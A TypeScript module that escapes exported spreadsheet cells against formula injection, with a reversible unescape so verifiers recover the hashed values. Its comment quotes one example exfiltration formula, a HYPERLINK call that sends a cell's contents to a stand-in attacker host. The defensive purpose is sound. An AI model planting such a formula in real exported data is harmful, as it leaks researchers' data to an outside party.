/**
 * Spreadsheet formula injection: a cell that starts with = + - @ (or a tab or carriage return)
 * is run as a formula when a researcher opens the file in Excel or Sheets
 * (=HYPERLINK("https://evil.example?"&A1)). Exported data cells get a leading apostrophe,
 * which spreadsheets show as text. Plain numbers (-5, +1.2e3) are left alone, and the escape
 * is reversible, so a verifier recovers exactly the values that were hashed.
 */
const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

function needsEscape(value: string): boolean {
  if (value.startsWith("'")) return needsEscape(value.slice(1));
  return /^[=+\-@\t\r]/.test(value) && !NUMBER.test(value);
}

export function escapeCell(value: string): string {
  return needsEscape(value) ? `'${value}` : value;
}

export function unescapeCell(value: string): string {
  return value.startsWith("'") && needsEscape(value.slice(1)) ? value.slice(1) : value;
}

export function escapeRow(row: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(row).map(([key, value]) => [key, escapeCell(value)]));
}

export function unescapeRow(row: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(row).map(([key, value]) => [key, unescapeCell(value)]));
}
